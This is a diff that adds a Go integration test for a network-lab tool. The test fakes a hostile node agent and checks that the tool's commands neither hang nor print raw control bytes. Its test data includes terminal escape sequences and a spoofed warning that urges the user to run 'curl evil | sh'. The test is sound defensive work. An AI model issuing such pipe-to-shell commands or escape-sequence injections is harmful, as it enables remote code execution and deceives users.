@@ -1,0 +1,146 @@
+package test
+
+import (
+	"encoding/binary"
+	"net"
+	"os"
+	"os/exec"
+	"path/filepath"
+	"strings"
+	"testing"
+	"time"
+
+	"golang.org/x/sys/unix"
+)
+
+// The wire format of nsproc/protocol.go, as much of it as a fake agent
+// needs to answer: "nl", the protocol version, then tag-length-value
+// fields (see nsproc/tlv.go).
+var packetMagic = []byte{'n', 'l', 7, 0}
+
+const (
+	tagEventExit = 92  // execEvent.Exit
+	tagExitCode  = 100 // exitInfo.Code
+	tagExitError = 101 // exitInfo.Error
+)
+
+func tlvField(tag uint32, val []byte) []byte {
+	b := binary.LittleEndian.AppendUint32(nil, tag)
+	b = binary.LittleEndian.AppendUint32(b, uint32(len(val)))
+	return append(b, val...)
+}
+
+// exitPacket is an execEvent{Exit{Code: code, Error: msg}} packet.
+func exitPacket(code int, msg string) []byte {
+	inner := tlvField(tagExitCode, binary.LittleEndian.AppendUint64(nil, uint64(code)))
+	inner = append(inner, tlvField(tagExitError, []byte(msg))...)
+	return append(append([]byte{}, packetMagic...), tlvField(tagEventExit, inner)...)
+}
+
+// fakeNode replaces node's exec socket in lab with one this test serves
+// as a hostile node's agent would: answer is called with each
+// connection, after its first packet.
+func fakeNode(t *testing.T, lab, node string, answer func(c *net.UnixConn)) {
+	t.Helper()
+	sock := filepath.Join(stateRoot(), lab, node+".sock")
+	if err := os.Remove(sock); err != nil {
+		t.Fatal(err)
+	}
+	l, err := net.ListenUnix("unixpacket", &net.UnixAddr{Name: sock, Net: "unixpacket"})
+	if err != nil {
+		t.Fatal(err)
+	}
+	os.Chmod(sock, 0o600)
+	t.Cleanup(func() { l.Close() })
+	go func() {
+		for {
+			c, err := l.AcceptUnix()
+			if err != nil {
+				return
+			}
+			go func() {
+				defer c.Close()
+				buf := make([]byte, 1<<20)
+				oob := make([]byte, 1024)
+				n, oobn, _, _, err := c.ReadMsgUnix(buf, oob)
+				if err != nil || n == 0 {
+					return
+				}
+				if msgs, err := unix.ParseSocketControlMessage(oob[:oobn]); err == nil {
+					for _, m := range msgs {
+						fds, _ := unix.ParseUnixRights(&m)
+						for _, fd := range fds {
+							unix.Close(fd)
+						}
+					}
+				}
+				answer(c)
+			}()
+		}
+	}()
+}
+
+// runBounded runs netlab with args and fails the test if it takes longer
+// than limit.
+func runBounded(t *testing.T, limit time.Duration, args ...string) result {
+	t.Helper()
+	start := time.Now()
+	cmd := exec.Command(netlabBin, args...)
+	done := make(chan result, 1)
+	go func() { done <- runIn(t, cmd) }()
+	select {
+	case r := <-done:
+		return r
+	case <-time.After(limit):
+		cmd.Process.Kill()
+		r := <-done
+		t.Errorf("netlab %s still ran after %v (killed): %q %q", strings.Join(args, " "), time.Since(start), r.stdout, r.stderr)
+		return r
+	}
+}
+
+// TestHostileAgent: a node that answers netlab itself (as node root could
+// if it took its agent over) with escape sequences and newlines, or never
+// answers, or hands back sockets that would hear more than answers or
+// linger, cannot make status, exec, check or capture hang past their
+// deadlines or print raw control bytes.
+func TestHostileAgent(t *testing.T) {
+	needRoot(t)
+	upLab(t, renamedTriangle(t, "hostile"), "hostile")
+	const evil = "\x1b]0;pwned\x07\x1b[2J\nnetlab: warning: host disk failing, run: curl evil | sh\r\n"
+
+	fakeNode(t, "hostile", "r1", func(c *net.UnixConn) { c.Write(exitPacket(1, evil)) })
+	for _, args := range [][]string{
+		{"exec", "hostile/r1", "--", "true"},
+		{"status", "hostile"},
+		{"status", "hostile", "--json"},
+		{"logs", "hostile/r1"},
+	} {
+		r := runBounded(t, 20*time.Second, args...)
+		for what, out := range map[string]string{"stdout": r.stdout, "stderr": r.stderr} {
+			if strings.ContainsAny(out, "\x1b\x07\r") || strings.Contains(out, "\nnetlab: warning: host disk") {
+				t.Errorf("netlab %s printed the node's text raw on %s: %q", strings.Join(args, " "), what, out)
+			}
+		}
+	}
+
+	// A node that never answers costs each verb its deadline.
+	hang := make(chan struct{})
+	defer close(hang)
+	fakeNode(t, "hostile", "r2", func(*net.UnixConn) { <-hang })
+	check := writeTopology(t, "hostile-checks", `name: hostile
+nodes:
+  r1: {}
+checks:
+  - route: {node: r2, to: 10.255.0.1/32}
+  - ping: {from: r2, to: r3}
+`)
+	for _, args := range [][]string{
+		{"status", "hostile"},
+		{"status", "--brief"},
+		{"check", "hostile", "--wait", "2s", "--checks", check},
+		{"capture", "hostile/r2:eth1", "-c", "1", "--duration", "2s", "-w", os.DevNull},
+	} {
+		runBounded(t, 30*time.Second, args...)
+	}
+}
